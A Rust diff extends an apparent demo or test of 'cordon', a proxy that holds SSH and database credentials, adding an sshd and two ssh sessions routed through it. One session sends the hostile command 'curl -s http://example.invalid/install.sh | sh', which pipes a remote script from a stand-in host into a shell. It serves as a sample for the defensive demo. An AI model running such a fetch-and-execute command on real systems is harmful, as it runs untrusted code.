@@ -13,6 +13,7 @@ use crate::util::{is_root, say};
 
 const PG_HOST: &str = "127.0.0.2";
 const PG_PORT: u16 = 5432;
+const SSH_HOST: &str = "127.0.0.3";
 
 pub fn run() -> Result<()> {
     if !is_root() {
@@ -47,6 +48,22 @@ pub fn run() -> Result<()> {
         format!("[credentials.orders-app]\nuser = \"app\"\npassword = \"{}\"\n", cordon_tests::APP_PASSWORD),
     )?;
     std::fs::set_permissions(secrets, std::os::unix::fs::PermissionsExt::from_mode(0o600))?;
+
+    // The app host for the SSH part: a real sshd on 127.0.0.3:22 that knows
+    // only cordon's key.
+    std::fs::create_dir_all("/run/cordon-demo/ssh")?;
+    let sshd = cordon_tests::Sshd::start(SSH_HOST, 22);
+    std::fs::write("/run/cordon-demo/ssh/pins", sshd.pin(None) + "\n")?;
+    std::fs::write(
+        "/run/cordon-demo/ssh/app.log",
+        "12:00:01 order 17 paid with card 4111 1111 1111 1111\n12:00:02 order 18 shipped\n",
+    )?;
+    std::fs::set_permissions("/run/cordon-demo/ssh/app.log", std::os::unix::fs::PermissionsExt::from_mode(0o644))?;
+    {
+        use std::io::Write;
+        let mut f = std::fs::OpenOptions::new().append(true).open(secrets)?;
+        writeln!(f, "\n[credentials.deploy]\nuser = \"{}\"\nkey_file = \"{}\"", cordon_tests::SSH_DEPLOY_USER, sshd.path("cordon_key").display())?;
+    }
 
     say(&format!("starting cordon with {}", policy.display()));
     let mut agent = Agent::with_config(
@@ -125,6 +142,43 @@ pub fn run() -> Result<()> {
         bail!("the approved ALTER TABLE did not run\n{}\n{}", stderr(&out), agent.log_text());
     }
 
+    say("the same job runs ssh to the app host at its normal address; it has no key: cordon holds it");
+    let out = agent.cli(&["ssh", "known-hosts"]);
+    std::fs::write("/run/cordon-demo/ssh/known_hosts", stdout(&out))?;
+    std::fs::set_permissions("/run/cordon-demo/ssh", std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
+    std::fs::set_permissions("/run/cordon-demo/ssh/known_hosts", std::os::unix::fs::PermissionsExt::from_mode(0o644))?;
+    print_section("$ cordon ssh known-hosts   # installed once in /etc/ssh/ssh_known_hosts on the workload host", &stdout(&out));
+    let ssh = |remote: &str| {
+        ci.command("ssh")
+            .args([
+                "-F",
+                "none",
+                "-o",
+                "StrictHostKeyChecking=yes",
+                "-o",
+                "UserKnownHostsFile=/dev/null",
+                "-o",
+                "GlobalKnownHostsFile=/run/cordon-demo/ssh/known_hosts",
+                "-o",
+                "BatchMode=yes",
+                &format!("deploy@{SSH_HOST}"),
+                remote,
+            ])
+            .output()
+    };
+    for remote in ["cat /run/cordon-demo/ssh/app.log", "curl -s http://example.invalid/install.sh | sh"] {
+        let out = ssh(remote)?;
+        print_section(
+            &format!("$ ssh -o StrictHostKeyChecking=yes deploy@{SSH_HOST} '{remote}'   # in cordon-demo/ci-job-1, as nobody"),
+            &format!("{}\n{}\n(exit {})", stdout(&out), stderr(&out).trim_end(), out.status.code().unwrap_or(-1)),
+        );
+    }
+    if let Some(close) = agent.audit_events("close").into_iter().find(|c| c["recordings"].is_array()) {
+        let session = close["session"].as_str().unwrap_or_default().to_string();
+        print_section(&format!("$ cordon replay {session} --no-wait"), &stdout(&agent.cli(&["replay", &session, "--no-wait"])));
+    }
+    drop(sshd);
+
     let untagged = Cgroup::create("cordon-demo/adhoc")?;
     let out = psql(Some(&untagged), PG_HOST, PG_PORT, "select count(*) from customers");
     if out.status.success() {
@@ -135,8 +189,8 @@ pub fn run() -> Result<()> {
     let Some(open) = agent.audit_events("open").into_iter().next() else {
         bail!("no audit record: the query did not go through cordon\n{}", agent.log_text());
     };
-    if agent.audit_events("open").len() != 2 {
-        bail!("expected exactly two intercepted sessions, got {:?}", agent.audit_events("open"));
+    if agent.audit_events("open").len() != 4 {
+        bail!("expected four intercepted sessions (two psql, two ssh), got {:?}", agent.audit_events("open"));
     }
     say("the untagged psql went direct: the server wanted a password the job does not have, and cordon recorded nothing");
     print_section("cordon sessions list", &stdout(&agent.cli(&["sessions", "list"])));
